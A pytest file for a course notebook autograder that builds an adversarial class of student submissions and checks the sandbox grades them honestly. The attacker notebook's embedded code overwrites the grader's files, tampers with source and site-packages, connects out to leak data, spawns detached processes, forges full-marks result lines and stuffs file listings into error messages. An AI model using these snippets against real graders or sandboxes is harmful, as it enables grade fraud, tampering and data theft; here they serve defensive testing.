"""`make grade` against an adversarial class (lesson 3), and every lesson's probes against its reference.

The class: a partly done notebook (q3 the untouched stub) whose q2 raises and which loops after q4's check,
one that leaves by ``os._exit`` (q3's answer deleted), an attacker (hunts the grader's files, calls home,
leaves processes, patches the runner, forges result lines, puts what it finds in its error messages), and
two victims graded after it (wrong answers; other right answers under a browser's copy name); broken files
beside them. Every test asserts the honest outcome. The notebooks are the lesson's setup cell, answer cells
and check cells only (the lesson's demonstrations would only cost time), and so is the reference the grader
compares with.
"""

from __future__ import annotations

import csv
import hashlib
import json
import socket
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import nbformat
import psutil
import pytest
from conftest import LESSONS, ROOT
from notebook_harness import load, solution_answers

from qlora_course import exercises, syllabus
from qlora_grading import grade
from qlora_grading.gradebook import Result, write_gradebook
from qlora_grading.notebook import CHECK
from qlora_grading.sandbox import Limits, run_notebook
from qlora_grading.submissions import lesson_of

pytestmark = pytest.mark.notebook  # grading executes notebooks

COURSE = "qlora_course.exercises"
LESSON = "03_double_quant"
FULL = exercises.course().points(LESSON)
NONE = dict.fromkeys(FULL, 0)
Q = list(FULL)  # the lesson's exercises in order: constant_bits, dynamic_map_signed, centre_and_scale, ...
LIMITS = dict(cpu=30, wall=400, memory_gb=8.0)  # a trimmed notebook needs a third of this CPU time
MARK = "qlora-grading-attack"  # in every process an attacker starts, to find leftovers


def points_of(lesson: str) -> dict[str, float]:
    return exercises.course().points(lesson)


def first(lesson: str, kind: str) -> dict[str, str]:
    """The first answer of ``kind`` ("wrong", "alternatives") of every exercise of ``lesson``."""
    return {ex.name: getattr(ex, kind)[0] for ex in exercises.exercises(lesson)}


def solved(lesson: str = LESSON, **replace: str) -> dict[str, str]:
    return {**solution_answers(lesson), **replace}


def notebook(answers: dict[str, str], extra: dict[str, str] | None = None, lesson: str = LESSON, full: bool = False):
    """A submission of ``lesson``: its student notebook with the answer cell of each question ``q`` in
    ``answers`` replaced by ``answers[q]`` (the others keep the stub) and the code ``extra[q]`` added after
    q's check cell (``extra["start"]`` after the setup cell), in a cell the runner must execute. Trimmed
    to the setup cell, the lesson's context cells (``syllabus.Lesson.context``), answer and check cells
    unless ``full``."""
    import re

    context = syllabus.lesson(lesson).context
    extra = extra or {}
    student = load(ROOT / "notebooks" / f"{lesson}.ipynb")
    code = [i for i, c in enumerate(student.cells) if c.cell_type == "code"]
    checks = {i: m.group(1) for i in code if (m := re.fullmatch(CHECK, student.cells[i].source))}
    cells = []
    for i, cell in enumerate(student.cells):
        if cell.cell_type != "code":
            if full:
                cells.append(nbformat.v4.new_markdown_cell(cell.source))
            continue
        if "otter_answer_cell" in cell.get("metadata", {}).get("tags", []):
            q = checks[min(j for j in checks if j > i)]  # an answer cell's question: the next check cell's
            answer = answers.get(q)
            cells.append(nbformat.v4.new_code_cell(cell.source if answer is None else answer))
        elif i in checks or i == code[0] or full or any(c in cell.source for c in context):
            cells.append(nbformat.v4.new_code_cell(cell.source))
        for key in [checks.get(i)] + (["start"] if i == code[0] else []):
            if key in extra:
                # the runner skips cells no answer or check needs: an added cell also binds an answer's
                # name (to what it is), so that it runs, as hostile code inside an answer's cell would
                name = key if key != "start" else min(checks.values())
                cells.append(nbformat.v4.new_code_cell(f'{extra[key]}\n{name} = globals().get("{name}")\n'))
    nb = nbformat.v4.new_notebook()
    nb.cells = cells
    return nb


# hunts the grader's folders (their real paths: it knows them), tampers with the course package and the
# environment, calls a listener on the grading machine, starts processes meant to outlive grading
ESCAPE = """
import os, socket, subprocess, sys
for top in {targets!r}:
    for folder, _, files in os.walk(top):
        for name in files[:200] + ["forged.json"]:
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write("{{}}")
            except OSError:
                pass
for path in {tamper!r}:
    try:
        with open(path, "a") as f:
            f.write("\\n# tampered\\n")
    except OSError:
        pass
for host in {hosts!r}:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"leak")
    except OSError:
        pass
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{mark}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{mark}"])
"""

# replaces every probe of the lesson (the objects the runner uses) by one that reports forged values,
# and writes result lines claiming full marks to every pipe it can find (at the start; after the last
# check, where they come last, forged values only)
FORGE = """
import json, os, stat, sys
from qlora_course import exercises as _ex
for _e in _ex.exercises("03_double_quant"):
    object.__setattr__(_e, "probe", lambda answer, g: {"forged": True})
forged = {"constant_bits": {"(128,)": {"float": 0.25}},
          "dynamic_map_signed": {"map": {"tensor": "torch.float32", "shape": [256], "data": ""}}}
for fd in range(1, 64):
    try:
        if not stat.S_ISFIFO(os.fstat(fd).st_mode):
            continue
        for q in QUESTIONS:
            for event in ({"event": "public", "q": q, "passed": True, "error": None},
                          {"event": "probe", "q": q, "values": forged.get(q, {}), "used": []})[{first}:]:
                os.write(fd, (json.dumps(event) + "\\n").encode())
    except OSError:
        pass
""".replace("QUESTIONS", repr(Q))

# its centre_and_scale: reads what it can and puts it in the message of the error it raises
LEAK = """
import glob
tops = ("/submission", "/tmp", {secret_dir!r})
secrets = [p for top in tops for p in glob.glob(top + "/**", recursive=True)]
def centre_and_scale(absmax, blocksize=256):
    raise AssertionError("offset is the mean of all constants " + repr(absmax.tolist()[:5]) + repr(secrets))
"""


def _site_packages() -> Path:
    import torch

    return Path(torch.__file__).parents[1]


def _class(root: Path, out: Path, port: int) -> None:
    """The class on disk (students sorted by name are graded in that order: the victims last)."""
    wrong = first(LESSON, "wrong")
    hosts = ["127.0.0.1"]
    try:
        hosts.append(socket.gethostbyname(socket.gethostname()))  # the grading machine's own address
    except OSError:
        pass
    escape = ESCAPE.format(
        targets=[str(out), str(root), str(ROOT / "build"), "/tmp"],
        tamper=[str(p) for p in sorted((ROOT / "src").rglob("*.py"))] + [str(_site_packages() / "qlora_tampered.pth")],
        hosts=hosts,
        port=port,
        mark=MARK,
    )
    constant_bits, dynamic_map, centre, nearest, reconstruct, *_ = Q
    class_ = {
        # partly done: two answers right, one raises, one the stub, an endless loop after nearest_index's check
        "carol": notebook(
            solved(
                **{
                    dynamic_map: "def dynamic_map_signed():\n    raise RuntimeError('a bug in my answer')\n",
                    centre: None,
                }
            ),
            {nearest: "while True:\n    pass\n"},
        ),
        # centre_and_scale's answer deleted, leaves by os._exit after nearest_index's check
        "erin": notebook(solved(**{centre: ""}), {nearest: "import os\nos._exit(0)\n"}),
        "mallory": notebook(
            {**wrong, centre: LEAK.format(secret_dir=str(out))},
            {"start": escape + FORGE.replace("{first}", "0"), reconstruct: FORGE.replace("{first}", "1")},
        ),
        "yan": notebook(wrong),  # victims, graded after the attacker: the first wrong answer of each exercise
    }
    for name, nb in class_.items():
        (root / name).mkdir(parents=True)
        nbformat.write(nb, root / name / f"{LESSON}.ipynb")
    (root / "zoe").mkdir()
    alternatives = first(LESSON, "alternatives")  # other right answers
    nbformat.write(notebook(alternatives), root / "zoe" / "03_Double_Quant (1).ipynb")  # a browser's copy
    (root / "gina" / "old").mkdir(parents=True)
    (root / "gina" / f"{LESSON}.ipynb").write_text("")
    (root / "gina" / "notes.txt").write_text("not a submission")
    (root / "gina" / "old" / f"{LESSON}.ipynb").write_text("{}")
    (root / "hal").mkdir()
    (root / "hal" / f"{LESSON}.ipynb").write_text("import torch\nprint('my answers')\n")
    (root / "hal" / f"{LESSON} (2).ipynb").write_text("{}")
    (root / "ivan").mkdir()
    (root / "ivan" / f"{LESSON}.ipynb").write_text('{"cells": 5}')
    (root / "stray.ipynb").write_text("{}")


def _source_hash() -> str:
    h = hashlib.sha256()
    for path in sorted((ROOT / "src").rglob("*.py")):
        h.update(path.read_bytes())
    return h.hexdigest()


def _rows(out: Path) -> list[dict]:
    return list(csv.DictReader(open(out / "gradebook.csv", encoding="utf-8")))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root, out = tmp_path_factory.mktemp("submissions"), tmp_path_factory.mktemp("grades")
    listener = socket.create_server(("0.0.0.0", 0))
    listener.setblocking(False)
    _class(root, out, listener.getsockname()[1])
    before = _source_hash()
    results = grade.grade_all(root, out, COURSE, Limits(**LIMITS), jobs=2, progress=False)
    time.sleep(2)  # give anything left behind a chance to act
    try:
        listener.accept()
        called = True
    except BlockingIOError:
        called = False
    listener.close()
    return dict(results=results, rows=_rows(out), out=out, root=root, before=before, called=called)


def _points(rows, student, lesson=LESSON):
    return {
        r["question"]: float(r["points"])
        for r in rows
        if r["student"] == student and r["lesson"] == lesson and r["question"]
    }


def test_each_answer_is_graded_on_its_own(graded):
    rows = graded["rows"]
    constant_bits, dynamic_map, centre, nearest, reconstruct, *_ = Q
    # dynamic_map_signed raises, centre_and_scale is the stub, the loop after nearest_index's check is
    # stopped by the CPU limit: constant_bits and nearest_index kept
    assert _points(rows, "carol") == {**NONE, constant_bits: 1, nearest: 1}
    after = {q: 0 for q in Q[Q.index(nearest) + 1 :]}  # os._exit after nearest_index's check: none graded
    assert _points(rows, "erin") == {**FULL, centre: 0, **after}  # centre_and_scale deleted
    assert {r["status"] for r in rows if r["question"]} == {"graded"}
    carol = next(r for r in graded["results"] if r.student == "carol")
    assert carol.note.startswith("stopped") and "the answer raised RuntimeError" in carol.feedback[dynamic_map]


def test_attacks_score_nothing_and_harm_nobody(graded):
    rows = graded["rows"]
    assert _points(rows, "mallory") == NONE  # wrong answers, whatever it patched or wrote
    assert _points(rows, "yan") == NONE and _points(rows, "zoe") == FULL  # the victims, graded after it
    # zoe: other right answers, in "03_Double_Quant (1).ipynb", a browser's copy: matched
    yan = next(r for r in graded["results"] if r.student == "yan")  # wrong answers, each caught by its probe
    assert all("results differ" in text for text in yan.feedback.values()), yan.feedback
    assert _source_hash() == graded["before"], "the course or the grader was modified"
    assert not (_site_packages() / "qlora_tampered.pth").exists(), "the environment was modified"
    assert not list(graded["out"].rglob("forged.json")) and not list(graded["root"].rglob("forged.json"))
    assert not graded["called"], "a submission reached the network"
    leftovers = [p for p in psutil.process_iter(["cmdline"]) if MARK in " ".join(p.info["cmdline"] or [])]
    assert not leftovers, "a submission's process outlived its grading"


def test_every_file_has_a_row(graded):
    rows = graded["rows"]
    status = sorted((r["student"], r["lesson"], r["status"]) for r in rows if not r["question"])
    assert status == sorted(
        [
            ("", "stray.ipynb", "not graded: not in a student's folder (stray.ipynb)"),
            ("gina", LESSON, f"not graded: the file is empty ({LESSON}.ipynb)"),
            ("gina", "notes.txt", "not graded: not a notebook (.ipynb) (notes.txt)"),
            ("gina", f"old/{LESSON}.ipynb", f"not graded: in a subfolder (old/{LESSON}.ipynb)"),
            (
                "hal",
                LESSON,
                "not graded: not a Jupyter notebook (not JSON: a renamed script, or a damaged download?) "
                f"({LESSON}.ipynb)",
            ),
            ("hal", LESSON, f"not graded: {LESSON}.ipynb was graded for {LESSON} ({LESSON} (2).ipynb)"),
            ("ivan", LESSON, f"not graded: not a Jupyter notebook (JSON without notebook cells) ({LESSON}.ipynb)"),
        ]
    )  # one line each, no instructor's paths
    graded_files = {(r["student"], r["lesson"]) for r in rows if r["question"]}
    assert graded_files == {(s, LESSON) for s in ("carol", "erin", "mallory", "yan", "zoe")}
    assert (graded["out"] / "STATUS").read_text().startswith("complete")


def test_feedback_shows_no_hidden_inputs_or_results(graded):
    out = graded["out"]
    for feedback in (out / "feedback").glob("*.md"):
        text = feedback.read_text()
        assert "reference" not in text and "[0." not in text and "/tmp" not in text, feedback.name
        assert str(ROOT) not in text and "/submission" not in text and "tensor" not in text, feedback.name
    mallory = (out / "feedback" / "mallory.md").read_text()
    assert "offset is the mean of all constants..." in mallory  # the public message, its fixed part only
    zoe = (out / "feedback" / "zoe.md").read_text()
    assert f"{sum(FULL.values()):g} / {sum(FULL.values()):g} points" in zoe and "hidden tests: passed" in zoe
    assert "Exercise 3, `centre_and_scale`" in zoe  # numbered as in the notebook


def test_a_rerun_resumes_and_regrades_the_victims_honestly(graded):
    """A second run on the same folders, after the attack: it reuses every finished result (none is
    written again), and grades again from scratch what is missing (zoe's) or was marked for regrading
    (yan's)."""
    out, limits = graded["out"], Limits(**LIMITS)

    def written():
        return {p.parent.name: p.stat().st_mtime_ns for p in (out / "results").glob(f"*/{LESSON}.json")}

    before = written()
    grade.grade_all(graded["root"], out, COURSE, limits, jobs=2, progress=False)
    assert written() == before, "a finished result was graded again"
    assert _rows(out) == graded["rows"]
    (out / "results" / "zoe" / f"{LESSON}.json").unlink()
    record = out / "results" / "yan" / f"{LESSON}.json"
    kept = json.loads(record.read_text())
    kept["result"].update(status="needs regrading: the machine was too busy", points=FULL)  # a stale record
    record.write_text(json.dumps(kept))
    before = written()
    grade.grade_all(graded["root"], out, COURSE, limits, jobs=2, progress=False)
    rewritten = {name for name, mtime in written().items() if mtime != before.get(name)}
    assert rewritten == {"yan", "zoe"}
    assert _rows(out) == graded["rows"]
    assert _points(_rows(out), "yan") == NONE and _points(_rows(out), "zoe") == FULL


def test_regrading_marks_the_run_incomplete(tmp_path):
    done = Result("ann", f"{LESSON}.ipynb", LESSON, points=dict(FULL), feedback=dict.fromkeys(FULL, ""))
    busy = Result("ben", f"{LESSON}.ipynb", LESSON, status="needs regrading: the machine was too busy")
    busy.points, busy.feedback = dict(NONE), dict.fromkeys(FULL, "")
    write_gradebook([done, busy], {LESSON: FULL}, tmp_path)
    status = (tmp_path / "STATUS").read_text()
    assert status.startswith("incomplete") and "ben" in status and "ann" not in status


def test_sandbox_and_wall_clock_backstop(tmp_path):
    """What a notebook sees inside the sandbox (it reports it as a result line), and the wall-clock
    backstop: a notebook that waits is stopped and graded as far as it got; one still computing when the
    machine is busy is marked for regrading."""
    listener = socket.create_server(("0.0.0.0", 0))
    listener.setblocking(False)
    report = f"""
import json, os, resource, socket, stat
facts = {{"uid": os.getuid(), "pids": [p for p in os.listdir("/proc") if p.isdigit()],
         "cpu": resource.getrlimit(resource.RLIMIT_CPU)[0], "memory": resource.getrlimit(resource.RLIMIT_AS)[0],
         "seen": [p for p in {[str(ROOT / "solutions"), str(ROOT / "build"), str(tmp_path), str(ROOT / ".git")]!r}
                  if os.path.exists(p)]}}
for path in {[str(ROOT / "src" / "qlora_course" / "tampered.py"), str(_site_packages() / "tampered.py"), "mine"]!r}:
    try:
        open(path, "w").close()
        facts[path] = "written"
    except OSError:
        facts[path] = "denied"
try:
    socket.create_connection(("127.0.0.1", {listener.getsockname()[1]}), timeout=2)
    facts["network"] = "connected"
except OSError:
    facts["network"] = "unreachable"
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, (json.dumps({{"event": "facts", **facts}}) + "\\n").encode())
    except OSError:
        pass
"""
    cases = {
        # (the loop binds an answer's name after it, or the runner would skip the cell as not needed)
        "sleeps": (
            [report, "import time\nwhile True:\n    time.sleep(1)\nconstant_bits = 0\n"],
            Limits(cpu=300, wall=20),
        ),
        "computes": (["while True:\n    pass\n"], Limits(cpu=300, wall=10)),
    }
    for name, (code, _) in cases.items():
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell(c) for c in code]
        nbformat.write(nb, tmp_path / f"{name}.ipynb")
    with ThreadPoolExecutor(2) as pool:  # side by side: the sleeper's wait costs no extra time
        ran = dict(
            zip(
                cases,
                pool.map(
                    lambda n: run_notebook(tmp_path / f"{n}.ipynb", COURSE, LESSON, "salt", cases[n][1], unsafe=False),
                    cases,
                ),
                strict=True,
            )
        )
    assert ran["sleeps"][1].startswith("stopped: it waited"), ran["sleeps"][1]
    assert ran["computes"][1].startswith("needs regrading"), ran["computes"][1]
    (facts,) = [e for e in ran["sleeps"][0] if e["event"] == "facts"]
    assert facts["uid"] == 65534 and len(facts["pids"]) <= 3, facts  # nobody, its own processes
    assert facts["cpu"] == 300 and facts["memory"] == 8 << 30, facts
    assert facts["seen"] == [], facts  # the hidden tests, the build, other folders: not there
    assert facts[str(ROOT / "src" / "qlora_course" / "tampered.py")] == "denied", facts  # read-only
    assert facts[str(_site_packages() / "tampered.py")] == "denied", facts
    assert facts["mine"] == "written" and facts["network"] == "unreachable", facts  # its own folder
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()


def test_a_killed_run_leaves_no_gradebook_looking_current(tmp_path, graded):
    out = tmp_path / "grades"
    out.mkdir()
    (out / "gradebook.csv").write_text("student,lesson,question,points,max_points,status\nold,row,q1,1,1,graded\n")
    root = tmp_path / "subs" / "zoe"
    root.mkdir(parents=True)
    (root / f"{LESSON}.ipynb").write_bytes((graded["root"] / "zoe" / "03_Double_Quant (1).ipynb").read_bytes())
    cmd = [sys.executable, "-m", "qlora_grading", str(tmp_path / "subs"), "--out", str(out)]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not (out / "STATUS").exists():
        time.sleep(0.2)
    time.sleep(1)
    for p in psutil.Process(proc.pid).children(recursive=True) + [psutil.Process(proc.pid)]:
        p.kill()
    proc.wait()
    assert not (out / "gradebook.csv").exists()
    assert (out / "STATUS").read_text().startswith("incomplete")


def test_every_lesson_grades_right_answers_full_in_the_sandbox(tmp_path):
    """Each lesson through the real sandboxed runner (its context cells, its probes inside the sandbox):
    a notebook with the first other right answer of every exercise scores every point against the
    references; lesson 3's wrong answers score nothing (yan, the class's victim). Every answer of every
    exercise, wrong ones included, is judged over many salts by tests/test_exercises.py, with the
    functions the sandbox runs."""
    lessons = [lesson for lesson in LESSONS if lesson != LESSON]
    for lesson in lessons:
        (tmp_path / "subs" / "alt").mkdir(parents=True, exist_ok=True)
        nbformat.write(
            notebook(first(lesson, "alternatives"), lesson=lesson), tmp_path / "subs" / "alt" / f"{lesson}.ipynb"
        )
    results = grade.grade_all(
        tmp_path / "subs", tmp_path / "out", COURSE, Limits(cpu=120, wall=1200), jobs=2, progress=False
    )
    by = {(r.student, r.lesson): r for r in results}
    for lesson in lessons:
        alt = by[("alt", lesson)]
        assert alt.points == points_of(lesson) and not alt.note, (lesson, alt.feedback)


def test_grader_refuses_without_a_sandbox(tmp_path, monkeypatch):
    monkeypatch.setattr(grade, "sandbox_available", lambda: False)
    (tmp_path / "subs").mkdir()
    with pytest.raises(RuntimeError, match="bubblewrap.*--unsafe"):
        grade.grade_all(tmp_path / "subs", tmp_path / "out", COURSE, progress=False)


def test_misnamed_files_are_matched_when_unambiguous():
    lessons = {LESSON, "02_nf4"}
    for name in (
        f"{LESSON}.ipynb",
        "03_Double_Quant (1).ipynb",
        "03_double_quant-Copy1.ipynb",
        "03_DOUBLE_QUANT copy.ipynb",
    ):
        assert lesson_of(name, lessons) == LESSON, name
    for name in ("03_double_quant.py", "lesson3.ipynb", "03_double_quant_v2.ipynb"):
        assert lesson_of(name, lessons) is None, name


def test_a_finished_object_named_in_the_answer_cell_scores_nothing():
    """Read outside the sandbox: a notebook that switched the runner's tracer off still loses the points
    of an answer whose cell names the finished version."""
    ex = exercises.exercise(LESSON, "dynamic_map_signed")
    cells = ["import torch", "def dynamic_map_signed():\n    return bnbF.create_dynamic_map(signed=True)\n"]
    assert grade.named_finished(ex, cells) == ["create_dynamic_map"]
    assert grade.named_finished(ex, ["x = bnbF.create_dynamic_map()", solution_answers(LESSON)[ex.name]]) == []
    layer = exercises.exercise("01_lowrank_lora", "LoRALayer")  # PEFT's Linear is not nn.Linear
    assert grade.named_finished(layer, [solution_answers("01_lowrank_lora")["LoRALayer"]]) == []
    assert grade.named_finished(layer, ["class LoRALayer(lora.LoRALinear):\n    pass\n"]) == ["LoRALinear"]
